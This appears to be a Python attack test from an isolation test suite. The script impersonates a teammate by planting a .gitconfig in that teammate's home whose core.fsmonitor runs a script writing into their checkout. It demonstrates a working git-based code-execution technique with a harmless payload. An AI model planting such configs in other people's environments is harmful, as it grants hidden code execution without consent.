#!/usr/bin/env python3
"""Attack 9: act as another teammate: plant a .gitconfig in its home (in rally-gh's state) before
it starts, whose fsmonitor then runs in its git and writes into its checkout.

argv: VICTIM, which waits for the signal before it runs git.
"""
import sys
from pathlib import Path

from hostile import RUN_ID, common_dir, fail, own_work, signal_peer

victim = sys.argv[1]
home = common_dir() / "rally" / "runs" / RUN_ID / "teammates" / victim / "home"
hook = home / "fsmonitor.sh"
try:
    home.mkdir(parents=True, exist_ok=True)
    hook.write_text(f"#!/bin/sh\necho 'written by an attacker' > src/{victim}/planted.txt\nexit 1\n")
    hook.chmod(0o755)
    (home / ".gitconfig").write_text(f"[core]\n\tfsmonitor = {hook}\n")
except OSError as err:
    fail(f"cannot plant in {victim}'s home: {err}")
finally:
    signal_peer("impersonate")
own_work()
